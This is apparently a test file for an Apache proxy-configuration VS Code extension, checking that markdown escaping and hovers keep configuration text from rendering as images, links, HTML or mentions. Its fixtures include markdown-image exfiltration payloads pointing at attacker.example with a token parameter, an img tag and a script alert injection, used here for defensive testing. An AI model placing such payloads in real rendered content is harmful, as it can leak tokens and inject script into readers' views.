/**
 * Configuration text in the markdown others render (hovers, the diff report): a balancer named
 * `balancer://x![p](https://attacker.example/?k=TOKEN)` must not become an image request, a link or
 * HTML, nor a member URL a mention or a table cell break.
 */
import assert from 'node:assert/strict';
import { analyze } from '../../../server/src/core/analysis';
import { hover } from '../../../server/src/core/features/hover';
import { codeSpan, escapeIcons, escapeMarkdown } from '../../../server/src/core/markup';

const OPTIONS = { epochSeconds: 1_800_000_000 };
const NAME = 'balancer://x![p](https://attacker.example/?k=tok)<img src=x>';

/** What a reader sees of escaped text: the backslash escapes and the zero-width spaces gone. */
function shown(markdown: string): string {
  return markdown.replace(/\\([!-/:-@[-`{-~])/g, '$1').replace(/\u200b/g, '');
}

/** Whether markdown holds a construct that renders as something other than its text. */
function activeConstructs(markdown: string): string[] {
  const unescaped = (pattern: string): RegExp => new RegExp(`(?<!\\\\)${pattern}`);
  const found: string[] = [];
  for (const [what, pattern] of [
    ['image or link', '\\]\\('],
    ['image', '!\\['],
    ['HTML', '<[a-zA-Z/!?]'],
    ['autolink', 'https?:\\/\\/'],
    ['www autolink', '\\bwww\\.'],
    ['entity', '&[#a-zA-Z]'],
  ] as const)
    if (unescaped(pattern).test(markdown)) found.push(what);
  if (/(^|[^\w\\])@[\w]/.test(markdown)) found.push('mention');
  return found;
}

describe('markdown escaping', () => {
  const cases = [
    NAME,
    'balancer://a<script>alert(1)</script>',
    'http://www.attacker.example/x',
    'x | y | z',
    '*bold* _em_ `code` ~~gone~~ $x$ # heading',
    'ping @octocat and #12',
    'a\\b\\[c]',
    '&lt;b&gt; &#64;',
  ];
  for (const text of cases)
    it(`keeps ${JSON.stringify(text)} text`, () => {
      const escaped = escapeMarkdown(text);
      assert.deepEqual(activeConstructs(escaped), [], escaped);
      assert.equal(shown(escaped), text);
    });

  it("keeps VS Code's $(icon) syntax out of a code lens title", () => {
    assert.equal(escapeIcons('members in $(alert)x.conf'), 'members in \\$(alert)x.conf');
  });

  it('makes one line of text with line breaks', () => {
    assert.equal(escapeMarkdown('a\nb\r\nc'), 'a b c');
  });

  it('puts any text in a code span that nothing inside ends', () => {
    assert.equal(codeSpan('1.15'), '`1.15`');
    assert.equal(codeSpan('a`b``c'), '```a`b``c```');
    assert.equal(codeSpan('`x'), '`` `x ``');
  });
});

describe('hover: configuration text stays text', () => {
  const text = `<Proxy "${NAME}">\nBalancerMember http://a/@octocat<b> route=![r](https://attacker.example/r) loadfactor=<i>\n</Proxy>\nProxyPass / ${NAME}/\n`;
  const analysis = analyze(text, OPTIONS);

  for (const [what, offset] of [
    ['the balancer', text.indexOf('Proxy')],
    ['a member', text.indexOf('http://a') + 2],
    ['a loadfactor value', text.indexOf('<i>') + 1],
    ['the ProxyPass reference', text.lastIndexOf('attacker')],
  ] as const)
    it(`on ${what}`, () => {
      const result = hover(analysis, offset, { picks: 20 });
      assert.ok(result, 'a hover');
      // The one link a hover makes itself: a directive name's page in the Apache manual (the name comes from the manual's table).
      const ours = /\[Apache manual\]\(https:\/\/httpd\.apache\.org\/docs\/2\.4\/mod\/[a-z_]+\.html#[a-z]+\)/g;
      assert.deepEqual(activeConstructs(result.markdown.replace(/`[^`\n]*`/g, '').replace(ours, '')), [], result.markdown);
    });
});
